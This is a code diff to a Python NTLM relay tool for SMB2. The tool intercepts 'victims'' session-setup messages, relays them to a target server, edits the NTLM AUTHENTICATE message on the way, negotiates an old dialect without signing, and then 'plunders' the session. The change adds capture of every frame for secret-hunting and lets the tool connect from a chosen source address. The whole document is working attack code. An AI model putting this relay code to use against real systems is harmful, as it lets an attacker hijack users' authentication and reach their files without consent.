@@ -28,6 +28,8 @@ class Loot:
     tree_connect: int = None
     written: bool = False
     session_flags: int = 0
+    ntlm_flags: int = 0  # of the AUTHENTICATE as it was carried on
+    frames: list = field(default_factory=list)  # all that went by, for those who look for secrets
     statuses: list = field(default_factory=list)
 
 
@@ -35,7 +37,7 @@ class Relayer:
     """Listens for victims and relays each to `target` (address, port); a context manager.
 
     `edit` changes the NTLM AUTHENTICATE on its way (a function on a bytearray); `dialect` is what it
-    speaks with the target.
+    speaks with the target. It reaches the target from its own address, `address`.
     """
 
     def __init__(self, target, share="data", edit=None, dialect=0x210):
@@ -66,7 +68,7 @@ class Relayer:
             victim.settimeout(10)
             loot = Loot()
             self.loot.append(loot)
-            with victim, Wire(*self.target) as attacker:
+            with victim, Wire(*self.target, source=self.address) as attacker:
                 try:
                     self._relay(victim, attacker, loot)
                 except (Disconnected, OSError, TypeError):
@@ -84,14 +86,12 @@ class Relayer:
                 continue
             if header.command != smb2.SESSION_SETUP:
                 return
-            if self.edit and has_ntlm(AUTHENTICATE_MESSAGE)(frame):
-                changed = bytearray(frame)
-                ntlm_edit(AUTHENTICATE_MESSAGE, self.edit)(changed)
-                frame = bytes(changed)
-            token = smb2.session_setup_token(frame, False)
+            loot.frames.append(frame)
+            token = smb2.session_setup_token(self._carry(frame, loot), False)
             answer = attacker.ask(smb2.SESSION_SETUP, bodies.session_setup(token),
                                   session_id=session_id)
             session_id = answer.session_id
+            loot.frames.append(answer.raw)
             loot.login = answer.status
             loot.statuses.append(answer.status)
             if answer.status != smb2.MORE_PROCESSING:
@@ -101,6 +101,20 @@ class Relayer:
         if loot.login == smb2.SUCCESS:
             loot.session_flags = smb2.session_flags(answer.raw)
             self._plunder(attacker, session_id, loot)
+
+    def _carry(self, frame, loot):
+        """What becomes of a message of the victim's on its way."""
+        if not has_ntlm(AUTHENTICATE_MESSAGE)(frame):
+            return frame
+        changed = bytearray(frame)
+
+        def note(message):
+            if self.edit:
+                self.edit(message)
+            loot.ntlm_flags = struct.unpack_from("<I", message, 60)[0]
+
+        ntlm_edit(AUTHENTICATE_MESSAGE, note)(changed)
+        return bytes(changed)
 
     def _negotiate(self, attacker):
         """An old dialect, with signing not asked for: the best chance there is."""
